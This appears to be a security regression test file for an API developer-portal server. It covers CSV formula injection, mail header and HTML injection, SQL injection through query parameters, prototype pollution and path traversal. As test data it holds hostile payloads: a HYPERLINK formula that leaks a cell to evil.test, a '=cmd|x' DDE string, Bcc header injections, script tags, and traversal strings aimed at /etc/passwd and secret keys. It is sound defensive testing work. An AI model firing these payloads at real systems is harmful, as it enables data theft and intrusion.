import { startSmtpServer, type TestSmtpServer } from '@portico/test-kit/mail/smtp-server.ts';
import { demoPassword, type StartedServer, startServer } from '@portico/test-kit/server/start-server.ts';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { figure } from '../kit/figure.ts';
import { byForm } from '../kit/form.ts';
import { readCsv } from './kit/csv.ts';
import { linkedFiles, publishLinks } from './kit/links-folder.ts';
import { aPerson, type Person, portalFile, portalIdOf, publish, theDeveloper, theOwner } from './kit/person.ts';
import { pollutingBodies, pollutingUploads } from './kit/polluting.ts';
import { getRaw } from './kit/raw-request.ts';
import { saveCharts } from './kit/saved-charts.ts';
import { statements } from './kit/sql-statements.ts';

let server: StartedServer;
let mail: TestSmtpServer;
let owner: Person;
let developer: Person;

beforeAll(async () => {
  mail = await startSmtpServer();
  server = await startServer({
    LOG_LEVEL: 'warn',
    OVERLOAD_DELAY_MS: '600000',
    SMTP_URL: mail.url,
    TRUSTED_PROXIES: '127.0.0.1',
  });
  [owner, developer] = await Promise.all([theOwner(server), theDeveloper(server)]);
});
afterAll(async () => {
  await server[Symbol.asyncDispose]();
  await mail[Symbol.asyncDispose]();
});

const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("http://evil.test?x="&A1,"x")', '\t=1+1', '=cmd|x'];
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

test('34. Formulas in CSV exports', async (context) => {
  const portalId = await portalIdOf(owner, 'localhost');
  // Records an action of an account whose email address starts like a formula.
  for (const sign of ['=1+1', '+1', '-1']) {
    const email = `${sign}@example.com`;
    await owner.call('POST', '/api/admin/v1/invitations', { email, full_name: sign, role: 'admin' });
    const sent = await mailTo(email);
    const token = /token=([\w-]+)/.exec(sent.text ?? '')?.[1];
    const invited = aPerson(server);
    const account = { token, full_name: formulas[0], password: demoPassword };
    expect((await invited.call('POST', '/v2/accept-invite', account)).status).toBeLessThan(300);
    await invited.call('POST', '/api/v1/authenticate', { username: email, password: demoPassword });
    for (const name of formulas) await invited.call('POST', `/api/admin/v1/portals/${portalId}/teams`, { name });
  }
  const { status, text } = await owner.call('GET', '/api/admin/v1/audit/export?format=csv');
  expect(status).toBe(200);
  const rows = readCsv(text);
  const cells = rows.flat();
  expect(new Set(rows.map((row) => row.length))).toEqual(new Set([rows[0]?.length]));
  expect(cells).toContain("'=1+1@example.com");
  expect(cells.filter(isFormula)).toEqual([]);

  const products = `/api/admin/v1/portals/${portalId}/products`;
  const { data } = (await owner.call('GET', `${products}?page[size]=100`)).body;
  for (const { id } of data) {
    const renamed = await owner.call('PATCH', `${products}/${id}`, { name: formulas[4] });
    expect([renamed.status, renamed.status === 200 ? '' : renamed.body]).toEqual([200, '']);
  }
  const application = (await developer.call('GET', '/api/v2/applications')).body.data[0].id;
  const saved = await saveCharts(server.url, application);
  expect(saved.some((cell) => cell.includes('HYPERLINK'))).toBe(true);
  expect(saved.filter(isFormula)).toEqual([]);
  figure(context, `${cells.length + saved.length} cells of the audit log and a dashboard: no formula`);
});

async function mailTo(email: string) {
  const find = () => mail.mails.find(({ envelope_to }) => envelope_to.includes(email));
  for (let count = mail.mails.length; !find(); count += 1) await mail.received(count + 1);
  return find() as (typeof mail.mails)[number];
}

test('35. CR/LF and HTML in mail headers and bodies', async (context) => {
  const portalId = await portalIdOf(owner, 'localhost');
  const breaks = ['\r\n', '\n', '\r', '\u2028', '%0d%0a', '\u0000'];
  const hostile = (line: string) =>
    `Ada${line}Bcc: evil@evil.test${line}${line}<img src=x onerror=alert(1)><script>x</script>`;
  const title = hostile('\r\n');
  const titled = await owner.call('PATCH', `/api/admin/v1/portals/${portalId}`, { title });
  let tried = 0;
  let taken = 0;
  const from = () => ({ 'x-forwarded-for': `203.0.113.${(tried += 1)}` });
  for (const [at, line] of breaks.entries()) {
    const email = `breaks${at}@example.com`;
    const { status } = await developer.call('POST', '/api/v2/developer', { email, full_name: hostile(line) }, from());
    expect([201, 400]).toContain(status);
    if (status === 201) taken += 1;
    // Two email addresses in one, and one followed by a header.
    for (const bad of [
      `a@example.com${line}Bcc: evil@evil.test`,
      `a@example.com, evil@evil.test`,
      `a@example.com;evil@evil.test`,
      `<a@example.com>evil@evil.test`,
      `"a${line}Bcc: evil@evil.test"@example.com`,
    ]) {
      const answer = await developer.call('POST', '/api/v2/developer', { email: bad, full_name: 'Ada' }, from());
      expect(answer.status).toBe(400);
    }
  }
  const registered = await developer.call(
    'POST',
    '/api/v2/developer',
    { email: 'plain@example.com', full_name: 'Ada' },
    from(),
  );
  expect(registered.status).toBe(201);
  const { data } = (await owner.call('GET', `/api/admin/v1/portals/${portalId}/developers?page[size]=100`)).body;
  const dana = data.find(({ email }: { email: string }) => email === 'dev@example.com');
  const decided = await owner.call('PATCH', `/api/admin/v1/portals/${portalId}/developers/${dana.id}`, {
    status: 'disabled',
    reason: hostile('\r\n'),
  });
  expect(decided.status).toBe(200);
  await mailTo('dev@example.com');
  await mailTo('plain@example.com');
  const expected = new Set(
    'auto-submitted content-type date from message-id mime-version subject to x-auto-response-suppress'.split(' '),
  );
  for (const { raw, headers, html = '', subject = '', to, envelope_to } of mail.mails) {
    expect(headers.map(({ key }) => key).filter((key) => !expected.has(key) && !key.startsWith('x-mailer'))).toEqual(
      [],
    );
    expect(raw.split(/\r?\n\r?\n/)[0]).not.toMatch(/^bcc:/im);
    expect(subject).not.toMatch(/\p{Cc}/u);
    expect(to).toHaveLength(1);
    expect(envelope_to.join()).not.toContain('evil');
    expect(html).not.toMatch(/<(?:img|script)\b/i);
  }
  await owner.call('PATCH', `/api/admin/v1/portals/${portalId}`, { title: 'Tidewright' });
  figure(
    context,
    `${tried} requests, ${taken} names and a title (${titled.status}) taken, ${mail.mails.length} mails: no header, no element`,
  );
});

test('36. SQL through every filter, sort, cursor, search text', async (context) => {
  const { paths } = (await owner.call('GET', '/api/openapi.json')).body;
  const portalId = await portalIdOf(owner, 'localhost');
  const product = (await theVisible()).id;
  const application = (await owner.call('GET', `/api/admin/v1/portals/${portalId}/applications`)).body.data[0]?.id;
  const known: Record<string, string> = { portalId, productId: product, applicationId: application ?? product };
  let requests = 0;
  let slowest = 0;
  const ask = async (path: string): Promise<{ status: number; body?: { data?: unknown[] } }> => {
    const began = performance.now();
    const person = path.startsWith('/api/v2') ? publicVisitor : owner;
    const answer = await person.call('GET', path);
    slowest = Math.max(slowest, performance.now() - began);
    requests += 1;
    if (answer.status >= 500) throw new Error(`${path}: ${answer.status} ${answer.text}`);
    return answer;
  };
  const publicVisitor = aPerson(server, 'public.localhost');
  for (const [template, item] of Object.entries<Record<string, { parameters?: { name: string; in: string }[] }>>(
    paths,
  )) {
    if (!item.get || /\/(changes|export)$/.test(template)) continue;
    const path = template.replaceAll(
      /\{(\w+)\}/g,
      (_, name: string) => known[name] ?? (name === 'indices' ? 'products' : product),
    );
    const queries = (item.get.parameters ?? []).filter((parameter) => parameter.in === 'query');
    const total = (await ask(path)).body?.data?.length ?? 0;
    for (const { name } of queries) {
      for (const statement of statements) {
        const { status, body } = await ask(`${path}?${new URLSearchParams({ [name]: statement })}`);
        // Searches find nothing unless a name contains the character. Places are also found by a part of the words, such as a
        // digit.
        const isFilter = /filter|^q$/.test(name) && !template.endsWith('/places');
        if (status === 200 && /OR|SELECT|DROP/i.test(statement) && isFilter) expect(body?.data ?? []).toEqual([]);
        expect(body?.data?.length ?? 0).toBeLessThanOrEqual(Math.max(total, 100));
      }
      await ask(`${path}?${encodeURIComponent(name)}[]=a&${encodeURIComponent(name)}[]=b`);
      await ask(`${path}?${encodeURIComponent(name)}=a&${encodeURIComponent(name)}=b`);
    }
    // Also in place of an id.
    if (template.includes('{')) {
      for (const statement of statements.slice(0, byForm({ short: 4, long: statements.length }))) {
        await ask(template.replaceAll(/\{\w+\}/g, encodeURIComponent(statement)));
      }
    }
  }
  const gateway = (await owner.call('POST', '/api/admin/v1/gateway-tokens', { name: 'attacker' })).body.token;
  for (const since of statements) {
    const query = new URLSearchParams({ since, wait: '0' });
    const headers = { authorization: `Bearer ${gateway}` };
    expect((await aPerson(server).call('GET', `/gateway/v1/changes?${query}`, undefined, headers)).status).toBeLessThan(
      500,
    );
    requests += 1;
  }
  expect((await theVisible()).id).toBe(product);
  expect(slowest).toBeLessThan(2000);
  figure(
    context,
    `${requests} requests, slowest ${Math.round(slowest)} ms: no 5xx, nothing found that was not asked for`,
  );
});

/** A product that every visitor sees. */
async function theVisible(): Promise<{ id: string }> {
  return (await aPerson(server, 'public.localhost').call('GET', '/api/v2/products')).body.data[0];
}

test('37. `__proto__` and `constructor` in JSON, query, YAML, front matter', async (context) => {
  const portalId = await portalIdOf(owner, 'localhost');
  let tried = 0;
  const json = { 'content-type': 'application/json' };
  for (const [person, path] of [
    [developer, '/api/v2/applications'],
    [developer, '/api/v2/developer/authenticate'],
    [owner, `/api/admin/v1/portals/${portalId}/products`],
    [owner, `/api/admin/v1/portals/${portalId}/teams`],
    [owner, `/api/admin/v1/portals/${portalId}/identity-providers`],
    [owner, '/api/admin/v1/webhooks'],
  ] as const) {
    for (const body of pollutingBodies) {
      tried += 1;
      expect([400, 401, 403]).toContain((await person.call('POST', path, body, json)).status);
    }
  }
  for (const query of [
    '__proto__[polluted]=yes',
    'constructor[prototype][polluted]=yes',
    '__proto__=yes',
    'filter[__proto__]=x',
    'page[__proto__]=1',
  ]) {
    tried += 1;
    const { status, body } = await aPerson(server, 'public.localhost').call('GET', `/api/v2/products?${query}`);
    expect(status).toBeLessThan(500);
    expect(JSON.stringify(body)).not.toContain('polluted":"yes');
  }
  for (const [at, [upload, statuses]] of pollutingUploads.entries()) {
    tried += 1;
    const { status, text } = await publish(owner, 'polluted', upload);
    expect(statuses, `upload ${at}: ${text}`).toContain(status);
  }
  // A changed prototype would show in an answer.
  for (const path of ['/api/v2/portal', '/api/v2/products', '/api/v2/portal/flags']) {
    const { text } = await aPerson(server, 'public.localhost').call('GET', path);
    expect(text).not.toContain('polluted');
  }
  const made = await owner.call('POST', `/api/admin/v1/portals/${portalId}/teams`, { name: 'After it' });
  expect(Object.keys(made.body)).not.toContain('polluted');
  figure(context, `${tried} bodies, queries and folders: nothing is polluted`);
});

test('38. Path traversal in documents and assets, encoded and by symlink', async (context) => {
  const { id } = await theVisible();
  const ups = [
    '../',
    '..%2f',
    '%2e%2e/',
    '%2e%2e%2f',
    '..%252f',
    '..%c0%af',
    '..\\',
    '..%5c',
    '....//',
    '%00../',
    '..;/',
    '/',
  ];
  const targets = ['etc/passwd', 'portico.db', 'secret.key', 'package.json', 'apps/server/src/main.ts'];
  const starts = [
    '/',
    '/assets/',
    '/console/',
    '/console/assets/',
    '/api/v2/portal/',
    `/api/v2/products/${id}/document-assets/`,
    `/api/v2/products/${id}/document-assets/a/`,
  ];
  let requests = 0;
  for (const start of starts) {
    for (const up of ups) {
      for (const target of targets) {
        requests += 1;
        const { status, text } = await getRaw(server.port, `${start}${up.repeat(8)}${target}`, 'public.localhost');
        expect(status, `${start}${up}${target}`).toBeLessThan(500);
        expect(text).not.toMatch(/root:.*:0:0:|SQLite format|"workspaces"|import \{/);
      }
    }
  }
  const paths = ['../portal.yaml', '/etc/passwd', 'a/../../b', 'a\\..\\b', 'C:\\b', './a', 'a//b', 'a/\u0000b', ''];
  for (const path of paths) {
    requests += 1;
    const upload = await publish(owner, 'traversal', { 'portal.yaml': portalFile('traversal'), [path]: 'x' });
    expect(upload.status).toBe(400);
  }
  const product = 'name: One\nversions: [{ name: v1, spec: api.json }]\n';
  const referring = (reference: string) => ({
    'portal.yaml': portalFile('traversal'),
    'products/one/product.yaml': product,
    'products/one/api.json': JSON.stringify({
      openapi: '3.1.0',
      info: { title: 'A', version: '1' },
      paths: {},
      components: { schemas: { A: { $ref: reference } } },
    }),
  });
  for (const reference of [
    '../../../../../../etc/passwd',
    '/etc/passwd',
    'file:///etc/passwd',
    '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
    '..\\..\\..\\etc\\passwd',
  ]) {
    requests += 1;
    const { status, text } = await publish(owner, 'traversal', referring(reference));
    expect(status).toBe(400);
    expect(text).not.toContain('root:');
  }
  for (const file of ['../../../etc/passwd', '/etc/passwd', 'assets/../../../../etc/passwd']) {
    requests += 1;
    const upload = await publish(owner, 'traversal', {
      'portal.yaml': portalFile('traversal', `appearance: { logo: ${file} }\n`),
    });
    expect(upload.status).toBe(400);
  }
  const said = await publishLinks();
  for (const file of linkedFiles) expect(said).toContain(`${file}: lies outside the folder`);
  expect(said).not.toContain('root:');
  figure(context, `${requests} paths and 4 links: nothing outside is read`);
});
